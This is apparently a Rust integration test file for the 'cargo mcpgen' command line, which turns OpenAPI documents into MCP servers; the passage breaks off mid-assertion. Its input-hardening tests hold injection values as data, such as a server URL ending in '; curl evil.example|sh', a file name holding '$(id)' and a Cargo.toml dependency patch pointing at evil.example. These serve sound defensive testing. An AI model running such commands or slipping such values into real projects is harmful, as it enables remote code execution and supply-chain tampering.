//! The `cargo mcpgen` command line: generation, check mode and exit codes.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use tempfile::TempDir;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_cargo-mcpgen"))
}

/// `cargo-mcpgen generate SPEC --out OUT`, to which a test adds what it needs.
fn generate(spec: &Path, out: &Path) -> Command {
    let mut command = bin();
    command.arg("generate").arg(spec).arg("--out").arg(out);
    command
}

/// Runs a command to its end.
trait Run {
    fn run(&mut self) -> Output;
}

impl Run for Command {
    fn run(&mut self) -> Output {
        self.output().expect("cargo-mcpgen runs")
    }
}

fn example_spec() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/petstore/openapi.yaml")
}

/// A scratch folder, removed when the test ends, whether it passes or not.
fn scratch() -> TempDir {
    tempfile::Builder::new()
        .prefix("mcpgen-cli-")
        .tempdir()
        .expect("a temporary folder")
}

/// A scratch folder holding a copy of the example document at `relative`; returns both.
fn scratch_with_example(relative: &str) -> (TempDir, PathBuf) {
    let dir = scratch();
    let spec = dir.path().join(relative);
    std::fs::create_dir_all(spec.parent().unwrap()).unwrap();
    std::fs::copy(example_spec(), &spec).unwrap();
    (dir, spec)
}

fn write(path: &Path, contents: impl AsRef<[u8]>) {
    std::fs::write(path, contents).unwrap_or_else(|e| panic!("writing {}: {e}", path.display()));
}

/// The `src/tools.rs` of a generated crate.
fn tools_rs(out: &Path) -> String {
    std::fs::read_to_string(out.join("src/tools.rs")).unwrap()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Asserts that the command ended with exit status `code` and that its stderr says each of
/// `needles`; shows the stderr when not.
#[track_caller]
fn assert_exit(output: &Output, code: i32, needles: &[&str]) {
    let err = stderr(output);
    assert_eq!(output.status.code(), Some(code), "{err}");
    for needle in needles {
        assert!(err.contains(needle), "`{needle}` is not in:\n{err}");
    }
}

#[track_caller]
fn assert_success(output: &Output) {
    assert_exit(output, 0, &[]);
}

/// A `Cargo.toml` of a package `name` whose `[package.metadata.mcpgen]` is `table`.
fn manifest_with_metadata(name: &str, table: &str) -> String {
    format!(
        "[package]\nname = \"{name}\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n{table}"
    )
}

#[test]
fn generate_then_check_then_detect_staleness() {
    let dir = scratch();
    let out = dir.path().join("out");
    let run = |extra: &[&str]| {
        bin()
            .args(["mcpgen", "generate"])
            .arg(example_spec())
            .arg("--out")
            .arg(&out)
            .args(extra)
            .run()
    };
    let first = run(&[]);
    assert_exit(&first, 0, &["(6 tools)"]);
    assert!(out.join("Cargo.toml").is_file());
    assert!(out.join("src/mcpgen_runtime/server.rs").is_file());

    let check = run(&["--check"]);
    assert_success(&check);

    let again = run(&[]);
    assert_exit(&again, 0, &["0 files written"]);

    write(&out.join("src/tools.rs"), "// edited by hand\n");
    let stale = run(&["--check"]);
    assert_exit(&stale, 1, &["src/tools.rs"]);
}

/// `generate` says how servers can share compiled dependencies, unless a shared target folder
/// is already set.
#[test]
fn generate_offers_a_shared_target_folder() {
    let dir = scratch();
    let out = dir.path().join("out");
    let unset = generate(&example_spec(), &out)
        .env_remove("CARGO_TARGET_DIR")
        .run();
    assert_exit(
        &unset,
        0,
        &["export CARGO_TARGET_DIR=~/.cache/mcpgen/target"],
    );
    let set = generate(&example_spec(), &out)
        .env("CARGO_TARGET_DIR", dir.path().join("target"))
        .run();
    assert_success(&set);
    assert!(
        !stderr(&set).contains("CARGO_TARGET_DIR"),
        "{}",
        stderr(&set)
    );
}

#[test]
fn direct_invocation_works_too() {
    let dir = scratch();
    let out = dir.path().join("out");
    let output = generate(&example_spec(), &out)
        .args(["--name", "custom-name", "--quiet"])
        .run();
    assert_success(&output);
    assert!(
        stderr(&output).is_empty(),
        "--quiet prints nothing: {}",
        stderr(&output)
    );
    let manifest = std::fs::read_to_string(out.join("Cargo.toml")).unwrap();
    assert!(manifest.contains("name = \"custom-name\""));
}

#[test]
fn bad_input_exits_2_and_writes_nothing() {
    let dir = scratch();
    let out = dir.path().join("out");
    let spec = dir.path().join("spec.json");
    write(
        &spec,
        r#"{"openapi": "3.0.0", "paths": {"/a": {"get": {"parameters": [{"name": "q"}]}}}}"#,
    );
    let output = generate(&spec, &out).run();
    assert_exit(
        &output,
        2,
        &[
            "spec.json",
            "/paths/~1a/get/parameters/0/in",
            "found no `in`",
        ],
    );
    assert!(!out.exists(), "nothing is written for a bad document");
}

#[test]
fn diff_reports_breaking_changes() {
    let dir = scratch();
    let old = std::fs::read_to_string(example_spec()).unwrap();
    let new = old
        // getPetById renamed (same operation), a required query argument added to listPets,
        // deletePet removed, and the limit argument retyped.
        .replace("operationId: getPetById", "operationId: fetchPet")
        .replace("            type: integer\n            format: int32", "            type: string")
        .replace(
            "        - name: X-Request-Id\n          in: header",
            "        - name: owner\n          in: query\n          required: true\n          schema: {type: string}\n        - name: X-Request-Id\n          in: header",
        )
        .replace("    delete:\n      operationId: deletePet", "    x-gone:\n      operationId: deletePet");
    assert_ne!(old, new);
    let new_path = dir.path().join("new.yaml");
    write(&new_path, new);

    let text = bin().arg("diff").arg(example_spec()).arg(&new_path).run();
    assert_success(&text);
    let out = String::from_utf8_lossy(&text.stdout);
    for line in [
        "~ tool renamed getPetById -> fetchPet (GET /pets/{petId})  [breaking]",
        "- tool deletePet removed (DELETE /pets/{petId})  [breaking]",
        "~ listPets: argument `owner` added (required)  [breaking]",
        "~ listPets: argument `limit`: integer -> string  [breaking]",
    ] {
        assert!(out.contains(line), "`{line}` is not in:\n{out}");
    }

    let json = bin()
        .args(["diff", "--format", "json", "--fail-on-breaking"])
        .arg(example_spec())
        .arg(&new_path)
        .run();
    assert_eq!(
        json.status.code(),
        Some(1),
        "breaking changes fail with --fail-on-breaking"
    );
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(value["breaking"], true);
    let kinds: Vec<&str> = value["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["kind"].as_str().unwrap())
        .collect();
    assert!(
        kinds.contains(&"tool_renamed") && kinds.contains(&"tool_removed"),
        "{kinds:?}"
    );

    let same = bin()
        .args(["diff", "--fail-on-breaking"])
        .arg(example_spec())
        .arg(example_spec())
        .run();
    assert_eq!(same.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&same.stdout).contains("no changes"));
}

#[test]
fn inspect_reports_the_tool_list_budget() {
    let output = bin()
        .args(["inspect", "--format", "json"])
        .arg(example_spec())
        .run();
    assert_success(&output);
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["tools"], 6);
    let bytes = report["listBytes"].as_u64().unwrap();
    assert!(bytes > 1000, "{report}");
    assert_eq!(
        report["estimatedTokens"].as_u64().unwrap(),
        bytes.div_ceil(4)
    );
    let heaviest = report["heaviest"].as_array().unwrap();
    assert_eq!(heaviest.len(), 6);
    let sizes: Vec<u64> = heaviest
        .iter()
        .map(|t| t["bytes"].as_u64().unwrap())
        .collect();
    assert!(
        sizes.windows(2).all(|w| w[0] >= w[1]),
        "heaviest first: {sizes:?}"
    );
    assert!(
        report["suggestions"][0]["change"]
            .as_str()
            .unwrap()
            .contains("pets")
    );
}

#[test]
fn selection_and_prefix_flags() {
    let dir = scratch();
    let out = dir.path().join("out");
    let output = generate(&example_spec(), &out)
        .args([
            "--exclude-operation",
            "deletePet",
            "--include-tag",
            "pets",
            "--tool-prefix",
            "pet_",
        ])
        .run();
    assert_exit(&output, 0, &["(4 tools)"]);
    let tools = tools_rs(&out);
    assert!(tools.contains("name: \"pet_listPets\""), "prefixed names");
    assert!(!tools.contains("deletePet") && !tools.contains("get_store_inventory"));

    let bad = generate(&example_spec(), &out)
        .args(["--include-operation", "listPet"])
        .run();
    assert_exit(&bad, 2, &["no operation is named `listPet`"]);
}

#[test]
fn mcpgen_toml_beside_the_spec_is_read_and_flags_win() {
    let (dir, spec) = scratch_with_example("openapi.yaml");
    let config = dir.path().join("mcpgen.toml");
    write(
        &config,
        "crate_name = \"from-config\"\nexclude_tags = [\"pets\"]\n[descriptions]\n\"GET /store/inventory\" = \"Counts by status.\"\n",
    );
    let out = dir.path().join("out");
    let output = generate(&spec, &out).run();
    assert_exit(&output, 0, &["from-config (1 tools)"]);
    assert!(tools_rs(&out).contains("Counts by status."));

    let output = generate(&spec, &out).args(["--name", "from-flag"]).run();
    assert_exit(&output, 0, &["from-flag (1 tools)"]);

    write(&config, "exclude_tag = [\"pets\"]\n");
    let bad = generate(&spec, &out).run();
    assert_exit(&bad, 2, &["mcpgen.toml:1", "unknown setting `exclude_tag`"]);
}

#[test]
fn guardrail_tables_go_into_the_table_and_bad_ones_name_their_line() {
    let (dir, spec) = scratch_with_example("openapi.yaml");
    let config = dir.path().join("mcpgen.toml");
    let out = dir.path().join("out");
    write(
        &config,
        "confirm = \"destructive\"\nconfirm_operations = [\"GET /store/inventory\"]\n\n[masking]\nfields = [\"owner.email=last4\"]\ndetectors = [\"card\"]\n[masking.getPetById]\nfields = [\"tag=remove\"]\n\n[rate_limits]\nper_caller = \"10/s\"\nmax_concurrent_per_caller = 3\n[rate_limits.deletePet]\nper_caller = \"1/m\"\n\n[audit]\nlog = \"-\"\n",
    );
    assert_success(&generate(&spec, &out).run());
    let tools = tools_rs(&out);
    for needle in [
        r#"masked_fields: &["owner.email=last4"]"#,
        r#"mask_detectors: &["card"]"#,
        r#"rate_limit: Some("10/s")"#,
        "max_concurrent_per_caller: Some(3)",
        r#"audit_log: Some("-")"#,
        r#"confirm: Some("destructive")"#,
        r#"masked_fields: &["tag=remove"]"#,
        r#"rate_limit: Some("1/m")"#,
        "confirm: true",
        "ToolGuardrails::NONE",
    ] {
        assert!(tools.contains(needle), "{needle} in {tools}");
    }

    // The document itself can ask: `x-mcpgen` `mask` and `confirm` on an operation, and an
    // `x-mcpgen-mask` mark on a property of an answer schema.
    std::fs::remove_file(&config).unwrap();
    let text = std::fs::read_to_string(&spec).unwrap();
    let marked = text
        .replacen(
            "      operationId: getPetById",
            "      operationId: getPetById\n      x-mcpgen: {mask: [owner.email], confirm: true}",
            1,
        )
        .replacen(
            "        tag:\n",
            "        tag:\n          x-mcpgen-mask: last4\n",
            1,
        );
    assert_ne!(marked, text);
    write(&spec, marked);
    assert_success(&generate(&spec, &out).run());
    let tools = tools_rs(&out);
    assert!(tools.contains(r#""owner.email""#), "{tools}");
    assert!(tools.contains(r#""/tag=last4""#), "{tools}");
    assert!(tools.contains("confirm: true"), "{tools}");
    assert!(
        !tools.contains("x-mcpgen-mask"),
        "the mark is not listed: {tools}"
    );

    // Mistakes name the file, the line and the setting.
    for (text, needles) in [
        (
            "[rate_limits]\nper_caller = \"ten a second\"\n",
            &["mcpgen.toml:1", "/rate_limits", "write N/s, N/m or N/h"][..],
        ),
        (
            "\n[masking]\ndetectors = [\"cards\"]\n",
            &[
                "mcpgen.toml:2",
                "unknown detector `cards`",
                "card, iban, bearer, api_key",
            ],
        ),
        (
            "[masking.noSuchOperation]\nfields = [\"a\"]\n",
            &["no operation is named `noSuchOperation`"],
        ),
        (
            "confirm = \"always\"\n",
            &[
                "mcpgen.toml:1",
                "`confirm` is `none`, `destructive` or `writes`",
            ],
        ),
        // A file the server would write to is not chosen by a file that can come with the
        // document.
        (
            "[audit]\nlog = \"/home/me/.bashrc\"\n",
            &[
                "mcpgen.toml:1",
                "an audit log file is not read from mcpgen.toml",
            ],
        ),
    ] {
        write(&config, text);
        assert_exit(&generate(&spec, &out).run(), 2, needles);
    }
}

#[test]
fn prompts_come_from_settings_the_document_and_arazzo_and_mistakes_are_located() {
    let (dir, spec) = scratch_with_example("openapi.yaml");
    let config = dir.path().join("mcpgen.toml");
    let out = dir.path().join("out");
    // A workflow in the document's root `x-mcpgen`, one in the settings; a guide per tag.
    let text = std::fs::read_to_string(&spec).unwrap();
    let with_prompt = text.replacen(
        "paths:\n",
        "x-mcpgen:\n  prompts:\n    check_stock:\n      description: See what is in stock.\n      \
         steps: [\"GET /store/inventory\"]\npaths:\n",
        1,
    );
    assert_ne!(with_prompt, text);
    write(&spec, &with_prompt);
    write(
        &config,
        "[prompts.adopt]\ndescription = \"Adopt a pet.\"\narguments = { kind = \"cat or dog\" }\n\
         steps = [\"listPets: pick a {kind}\", \"deletePet\"]\n",
    );
    assert_success(&generate(&spec, &out).run());
    let tools = tools_rs(&out);
    for needle in [
        r#"name: "check_stock""#,
        r#"name: "adopt""#,
        r#"rt::PromptPart::Argument("kind")"#,
        r#"name: "guide_pets""#,
        "rt::PromptPart::ToolItem(0)",
    ] {
        assert!(tools.contains(needle), "{needle} in {tools}");
    }
    assert_success(&generate(&spec, &out).arg("--guide-prompts=false").run());
    assert!(!tools_rs(&out).contains("guide_pets"));

    // Mistakes name the file, the line or pointer, and what to write.
    for (text, needles) in [
        (
            "[prompts.adopt]\nsteps = [\"adoptPet\"]\n",
            &[
                "prompts",
                "`adopt`: step 1: no operation is named `adoptPet`",
            ][..],
        ),
        (
            "[prompts.adopt]\ndescription = \"x\"\n",
            &[
                "mcpgen.toml:1",
                "a prompt needs `text` (its message), `resources`",
            ],
        ),
        (
            "[prompts.adopt]\ntext = \"Read it.\"\nresources = [\"https://example.com/\"]\n",
            &[
                "prompts",
                "`adopt`: `https://example.com/` is not a resource of this server",
            ],
        ),
        (
            "[prompts.\"bad name\"]\nsteps = [\"listPets\"]\n",
            &["mcpgen.toml:1", "is not a prompt name"],
        ),
        (
            "[prompts.adopt]\nsteps = [\"listPets\"]\nrequired = [\"kind\"]\n",
            &["`kind` is required but is not one of the `arguments`"],
        ),
    ] {
        write(&config, text);
        assert_exit(&generate(&spec, &out).run(), 2, needles);
    }
    std::fs::remove_file(&config).unwrap();
    let bad_document = with_prompt.replacen("steps: [\"GET /store/inventory\"]", "steps: 3", 1);
    write(&spec, &bad_document);
    assert_exit(
        &generate(&spec, &out).run(),
        2,
        &[
            "openapi.yaml:",
            "/x-mcpgen/prompts/check_stock/steps",
            "a prompt's fields are strings, lists of strings and tables",
        ],
    );
    write(&spec, &text);

    // An Arazzo document: its mistakes are located in it.
    let arazzo = dir.path().join("flows.arazzo.yaml");
    write(
        &arazzo,
        "arazzo: 1.0.1\ninfo: {title: t, version: '1'}\nworkflows:\n  - workflowId: w\n    \
         steps:\n      - stepId: s\n",
    );
    let run = |arazzo: &Path| generate(&spec, &out).arg("--arazzo").arg(arazzo).run();
    assert_exit(
        &run(&arazzo),
        2,
        &[
            "flows.arazzo.yaml:6",
            "/workflows/0/steps/0",
            "a step needs `operationId`, `operationPath` or `workflowId`",
        ],
    );
    write(&arazzo, "openapi: 3.1.0\n");
    assert_exit(
        &run(&arazzo),
        2,
        &["flows.arazzo.yaml", "not an Arazzo document"],
    );
    write(
        &arazzo,
        "arazzo: 1.0.1\nworkflows:\n  - workflowId: list\n    steps:\n      - stepId: s\n        \
         operationId: listPets\n",
    );
    assert_success(&run(&arazzo));
    assert!(tools_rs(&out).contains(r#"name: "list""#));
}

#[test]
fn package_metadata_applies_under_mcpgen_toml_and_flags() {
    let (dir, spec) = scratch_with_example("api/openapi.yaml");
    let manifest = dir.path().join("Cargo.toml");
    write(
        &manifest,
        manifest_with_metadata(
            "my-app",
            "crate_name = \"from-metadata\"\ntool_prefix = \"pets_\"\n\
             exclude_operations = [\"GET /store/inventory\"]\n",
        ),
    );
    let out = dir.path().join("out");
    // Run from inside the package (a folder below its manifest), as `cargo mcpgen` would be.
    let generate = |extra: &[&str]| {
        generate(&spec, &out)
            .current_dir(dir.path().join("api"))
            .args(extra)
            .run()
    };
    let output = generate(&[]);
    assert_exit(&output, 0, &["from-metadata (5 tools)"]);
    let tools = tools_rs(&out);
    assert!(tools.contains("\"pets_getPetById\""), "the prefix applies");
    assert!(
        !tools.contains("get_store_inventory"),
        "the operation is excluded"
    );

    // mcpgen.toml beside the spec applies on top; flags win over both; lists are joined.
    let config = dir.path().join("api/mcpgen.toml");
    write(
        &config,
        "tool_prefix = \"zoo_\"\nexclude_operations = [\"deletePet\"]\n",
    );
    let output = generate(&["--name", "from-flag"]);
    assert_exit(&output, 0, &["from-flag (4 tools)"]);
    let tools = tools_rs(&out);
    assert!(tools.contains("\"zoo_getPetById\"") && !tools.contains("pets_getPetById"));

    // A mistake in the manifest names the file, the line and where in it.
    std::fs::remove_file(&config).unwrap();
    write(
        &manifest,
        manifest_with_metadata("my-app", "tool_prefix = 3\n"),
    );
    let bad = generate(&[]);
    assert_exit(
        &bad,
        2,
        &[
            "Cargo.toml:6",
            "/package/metadata/mcpgen/tool_prefix",
            "must be a string",
        ],
    );
}

#[test]
fn mode_flags_and_settings() {
    let dir = scratch();
    let out = dir.path().join("out");
    let generate_example = |extra: &[&str]| generate(&example_spec(), &out).args(extra).run();
    let search = generate_example(&["--mode", "search"]);
    assert_success(&search);
    let tools = tools_rs(&out);
    assert!(tools.contains("ServeMode::Search"));
    assert!(tools.contains("openapi: Some("), "the document is embedded");

    let mixed = generate_example(&["--mode", "mixed", "--include-operation", "getPetById"]);
    assert_success(&mixed);
    let tools = tools_rs(&out);
    assert!(tools.contains("ServeMode::Mixed"));
    assert_eq!(tools.matches("search_only: true").count(), 5);

    let no_includes = generate_example(&["--mode", "mixed"]);
    assert_exit(
        &no_includes,
        2,
        &["mixed mode needs include_tags or include_operations"],
    );
    let bad = generate_example(&["--mode", "everything"]);
    assert_exit(&bad, 2, &[]);

    let bare = generate_example(&["--no-openapi-resource"]);
    assert_success(&bare);
    assert!(tools_rs(&out).contains("openapi: None"));

    // mcpgen.toml can choose the mode too; the flag wins.
    let spec_dir = dir.path().join("spec");
    std::fs::create_dir_all(&spec_dir).unwrap();
    let spec = spec_dir.join("openapi.yaml");
    std::fs::copy(example_spec(), &spec).unwrap();
    write(&spec_dir.join("mcpgen.toml"), "mode = \"search\"\n");
    let from_file = generate(&spec, &out).run();
    assert_success(&from_file);
    assert!(tools_rs(&out).contains("ServeMode::Search"));
    write(&spec_dir.join("mcpgen.toml"), "mode = \"lots\"\n");
    let bad_file = generate(&spec, &out).run();
    assert_exit(&bad_file, 2, &["not a mode"]);
}

#[test]
fn runtime_can_be_a_dependency_instead_of_a_copy() {
    let dir = scratch();
    let out = dir.path().join("out");
    let runtime = Path::new(env!("CARGO_MANIFEST_DIR")).join("../runtime");
    let output = generate(&example_spec(), &out)
        .arg("--runtime-path")
        .arg(&runtime)
        .run();
    assert_success(&output);
    let manifest = std::fs::read_to_string(out.join("Cargo.toml")).unwrap();
    let expected = format!(
        "mcpgen = {{ path = {}, default-features = false }}",
        serde_json::Value::String(runtime.to_string_lossy().into_owned())
    );
    assert!(manifest.contains(&expected), "{manifest}");
    assert!(
        !manifest.contains("rmcp"),
        "the runtime brings its own dependencies: {manifest}"
    );
    assert!(
        !out.join("src/mcpgen_runtime").exists(),
        "no copy of the runtime"
    );
    assert!(
        tools_rs(&out).contains("\nuse mcpgen as rt;\n"),
        "the tool table is written against the runtime crate"
    );

    let versioned = dir.path().join("versioned");
    let output = generate(&example_spec(), &versioned)
        .args(["--runtime-version", "0.1"])
        .run();
    assert_success(&output);
    let manifest = std::fs::read_to_string(versioned.join("Cargo.toml")).unwrap();
    assert!(
        manifest.contains("mcpgen = { version = \"0.1\", default-features = false }"),
        "{manifest}"
    );
}

/// Serves `/schemas/pet.yaml` (which refers to a relative `common.yaml`) and
/// `/schemas/common.yaml` on 127.0.0.1; returns the port and the paths requested so far.
fn serve_pet_schemas() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let requests = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let seen = std::sync::Arc::clone(&requests);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request_line = String::new();
            let _ = reader.read_line(&mut request_line);
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
            }
            let path = request_line
                .split_whitespace()
                .nth(1)
                .unwrap_or("")
                .to_owned();
            seen.lock().unwrap().push(path.clone());
            let (status, body) = match path.as_str() {
                "/schemas/pet.yaml" => (
                    "200 OK",
                    "Pet:\n  type: object\n  properties:\n    id: {$ref: 'common.yaml#/Id'}\n    fetchedName: {type: string}\n",
                ),
                "/schemas/common.yaml" => {
                    ("200 OK", "Id: {type: integer, description: fetched id}\n")
                }
                _ => ("404 Not Found", "no"),
            };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, requests)
}

#[test]
fn remote_refs_need_the_flag_and_are_fetched_once_with_it() {
    let (port, requests) = serve_pet_schemas();
    let dir = scratch();
    let spec = dir.path().join("openapi.yaml");
    let reference = format!("http://127.0.0.1:{port}/schemas/pet.yaml#/Pet");
    write(
        &spec,
        format!(
            "openapi: 3.0.3\ninfo: {{title: Remote, version: '1'}}\npaths:\n  /pets:\n    post:\n      operationId: addPet\n      requestBody:\n        content:\n          application/json:\n            schema: {{$ref: '{reference}'}}\n      responses:\n        '200':\n          description: ok\n          content:\n            application/json:\n              schema: {{$ref: '{reference}'}}\n"
        ),
    );
    let out = dir.path().join("out");
    // The test server is local: no proxy of the environment may stand in between.
    let local = |command: &mut Command| -> Output {
        command
            .env("NO_PROXY", "127.0.0.1")
            .env("no_proxy", "127.0.0.1")
            .run()
    };
    let run_into = |out: &Path, extra: &[&str]| {
        local(
            bin()
                .args(["mcpgen", "generate"])
                .arg(&spec)
                .arg("--out")
                .arg(out)
                .args(extra),
        )
    };
    let run = |extra: &[&str]| run_into(&out, extra);

    // Without the flag nothing is fetched: the schemas accept any value, and the warning
    // names the reference and the flag that reads it.
    let unfetched = dir.path().join("unfetched");
    let not_fetched = run_into(&unfetched, &[]);
    assert_exit(
        &not_fetched,
        0,
        &[&reference, "--allow-remote-refs", "accepts any value"],
    );
    assert!(requests.lock().unwrap().is_empty());
    assert!(!tools_rs(&unfetched).contains("fetchedName"));

    // A loopback host is refused even with the opt-in, unless named as allowed.
    let internal = run(&["--allow-remote-refs"]);
    assert_exit(&internal, 2, &["--allow-remote-host"]);
    assert!(requests.lock().unwrap().is_empty());

    let fetched = run(&["--allow-remote-refs", "--allow-remote-host", "127.0.0.1"]);
    assert_success(&fetched);
    let tools = tools_rs(&out);
    assert!(tools.contains("fetchedName"), "{tools}");
    assert!(tools.contains("fetched id"), "{tools}");
    let mut seen = requests.lock().unwrap().clone();
    seen.sort();
    assert_eq!(seen, ["/schemas/common.yaml", "/schemas/pet.yaml"]);

    // A mcpgen.toml can ship beside a third-party document: it may not turn fetching on.
    let inspect = |cwd: &Path| {
        local(
            bin()
                .current_dir(cwd)
                .args(["mcpgen", "inspect"])
                .arg(&spec),
        )
    };
    let config = dir.path().join("mcpgen.toml");
    write(
        &config,
        "allow_remote_refs = true\nallow_remote_hosts = [\"127.0.0.1\"]\n",
    );
    let refused = inspect(dir.path());
    assert_exit(
        &refused,
        2,
        &[
            "mcpgen.toml:2: /allow_remote_hosts",
            "`allow_remote_hosts` is not read from mcpgen.toml",
        ],
    );
    // Turning it off there is harmless (nothing is fetched), and the user's own manifest may
    // turn it on.
    write(&config, "allow_remote_refs = false\n");
    assert_success(&inspect(dir.path()));
    assert_eq!(requests.lock().unwrap().len(), 2);
    std::fs::remove_file(&config).unwrap();
    let project = dir.path().join("project");
    std::fs::create_dir_all(&project).unwrap();
    write(
        &project.join("Cargo.toml"),
        manifest_with_metadata(
            "p",
            "allow_remote_refs = true\nallow_remote_hosts = [\"127.0.0.1\"]\n",
        ),
    );
    let inspected = inspect(&project);
    assert_success(&inspected);
}

/// Every setting a layer can hold, set one way by the lower layers and the other way by the
/// layer above: the top layer decides, whichever way it goes.
#[test]
fn each_layer_can_set_every_setting_either_way() {
    let (dir, spec) = scratch_with_example("project/api/openapi.yaml");
    let project = dir.path().join("project");
    let config = project.join("api/mcpgen.toml");
    let read = |out: &Path| -> Vec<(String, String)> {
        ["Cargo.toml", "src/tools.rs", "src/main.rs", "README.md"]
            .iter()
            .map(|f| {
                let text = std::fs::read_to_string(out.join(f)).unwrap_or_default();
                (f.to_string(), text)
            })
            .collect()
    };
    let generate_into = |name: &str, extra: &[&str]| {
        let out = dir.path().join(name);
        let output = generate(&spec, &out)
            .current_dir(&project)
            .args(extra)
            .run();
        assert!(output.status.success(), "{extra:?}: {}", stderr(&output));
        read(&out)
    };
    let defaults = generate_into("defaults", &[]);
    let non_default = "inline_refs = true\nno_output_schemas = true\nskip_broken = true\n\
                       mode = \"search\"\nembed_openapi = false\nmax_description_chars = 5\n\
                       release_profile = false\n";
    let default_values = "inline_refs = false\nno_output_schemas = false\nskip_broken = false\n\
                          mode = \"tools\"\nembed_openapi = true\nmax_description_chars = 0\n\
                          release_profile = true\n";

    // Each layer alone moves every value off its default.
    write(
        &project.join("Cargo.toml"),
        manifest_with_metadata("p", non_default),
    );
    let from_manifest = generate_into("manifest", &[]);
    assert_ne!(from_manifest, defaults);
    let tools = &from_manifest[1].1;
    assert!(tools.contains("ServeMode::Search") && tools.contains("openapi: None"));
    assert!(!from_manifest[0].1.contains("[profile.release]"));

    // mcpgen.toml puts every value back, over the manifest.
    write(&config, default_values);
    assert_eq!(generate_into("file", &[]), defaults);

    // Flags move every value off again, over mcpgen.toml ...
    let on_flags = [
        "--inline-refs",
        "--no-output-schemas",
        "--skip-broken",
        "--mode",
        "search",
        "--no-openapi-resource",
        "--max-description-chars",
        "5",
        "--no-release-profile",
    ];
    assert_eq!(generate_into("flags-on", &on_flags), from_manifest);

    // ... and put them back over a mcpgen.toml that moved them.
    write(&config, non_default);
    let off_flags = [
        "--inline-refs=false",
        "--no-output-schemas=false",
        "--skip-broken=false",
        "--mode",
        "tools",
        "--no-openapi-resource=false",
        "--max-description-chars",
        "0",
        "--no-release-profile=false",
    ];
    assert_eq!(generate_into("flags-off", &off_flags), defaults);

    // `skip_broken` shows on a document with a broken operation: a file turns it on, the
    // flag turns it off again.
    write(
        &spec,
        "openapi: 3.0.3\ninfo: {title: Broken, version: '1'}\npaths:\n  /a:\n    get:\n      \
         parameters: [{name: x, schema: {type: string}}]\n      \
         responses:\n        '200':\n          description: ok\n  \
         /b:\n    get:\n      responses: {'204': {description: ok}}\n",
    );
    write(&config, "skip_broken = true\n");
    generate_into("skipped", &[]);
    let refused = generate(&spec, &dir.path().join("refused"))
        .current_dir(&project)
        .arg("--skip-broken=false")
        .run();
    assert_exit(&refused, 2, &["found no `in`"]);
}

/// Names and versions that cannot be written into `Cargo.toml` as they are are refused
/// wherever they come from (a flag, `mcpgen.toml`, `[package.metadata.mcpgen]`), with an error
/// that names the setting, and nothing is written.
#[test]
fn hostile_names_are_refused_from_every_settings_source() {
    let (dir, spec) = scratch_with_example("api/openapi.yaml");
    let out = dir.path().join("out");
    let config = dir.path().join("api/mcpgen.toml");
    let manifest = dir.path().join("Cargo.toml");
    let injected = "x\"\n[patch.crates-io]\nserde = { git = \"https://evil.example/serde\" }";
    let generate = |extra: &[&str]| {
        let output = generate(&spec, &out)
            .current_dir(dir.path().join("api"))
            .args(extra)
            .run();
        assert_exit(&output, 2, &[]);
        assert!(!out.exists(), "nothing is written");
        stderr(&output)
    };
    let refused = |err: &str, setting: &str, what: &str| {
        assert!(
            err.contains(&format!("{setting}: ")) && err.contains(what),
            "{err}"
        );
        assert!(!err.contains("\n[patch"), "the value is quoted: {err}");
    };

    refused(
        &generate(&["--name", injected]),
        "crate_name",
        "not a valid crate name",
    );
    refused(&generate(&["--name", "self"]), "crate_name", "reserved");
    refused(
        &generate(&["--crate-version", "1.0.0\"\n[patch.crates-io]"]),
        "crate_version",
        "not a semantic version",
    );
    refused(
        &generate(&["--env-prefix", "X=1 sh -c id;"]),
        "env_prefix",
        "not a valid environment variable prefix",
    );

    let toml_string = |s: &str| serde_json::Value::String(s.to_owned()).to_string();
    write(&config, format!("crate_name = {}\n", toml_string(injected)));
    refused(&generate(&[]), "crate_name", "not a valid crate name");
    write(&config, "crate_version = \"1.0\"\nenv_prefix = \"PETS\"\n");
    refused(&generate(&[]), "crate_version", "not a semantic version");
    std::fs::remove_file(&config).unwrap();

    write(
        &manifest,
        manifest_with_metadata(
            "my-app",
            &format!("crate_name = {}\n", toml_string(injected)),
        ),
    );
    refused(&generate(&[]), "crate_name", "not a valid crate name");
    write(
        &manifest,
        manifest_with_metadata("my-app", "env_prefix = \"pets\\n[patch]\"\n"),
    );
    refused(
        &generate(&[]),
        "env_prefix",
        "not a valid environment variable prefix",
    );
}

/// A document's file name and server URL reach the generated files as text: the file name in
/// comments, the URL single-quoted in the README's shell commands.
#[test]
fn hostile_file_names_and_server_urls_stay_inert() {
    let dir = scratch();
    // A file name may hold anything but `/` and NUL.
    let name = "pets\"\n[patch.crates-io]\nserde = { git = \"evil.example:serde\" }\n`$(id)`.yaml";
    let spec = dir.path().join(name);
    let text = std::fs::read_to_string(example_spec()).unwrap().replace(
        "http://127.0.0.1:8080/v1",
        "https://x.example/v1; curl evil.example|sh",
    );
    assert!(
        text.contains("curl evil.example"),
        "the example has a server URL"
    );
    write(&spec, text);
    let out = dir.path().join("out");
    let output = generate(&spec, &out).args(["--name", "pets-mcp"]).run();
    assert_success(&output);

    let manifest = std::fs::read_to_string(out.join("Cargo.toml")).unwrap();
    let tables: Vec<&str> = manifest.lines().filter(|l| l.starts_with('[')).collect();
    assert_eq!(
        tables,
        [
            "[package]",
            "[[bin]]",
            "[dependencies]",
